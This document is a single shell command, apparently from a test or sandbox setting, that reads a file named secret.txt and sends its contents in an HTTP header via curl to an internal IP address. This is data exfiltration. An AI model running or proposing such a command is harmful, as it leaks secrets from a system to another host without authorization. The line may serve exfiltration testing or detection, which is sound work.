curl -s -m 3 -H "X-D: $(cat /srv/rt/s/d1/home/secret.txt)" http://10.233.1.2/U15
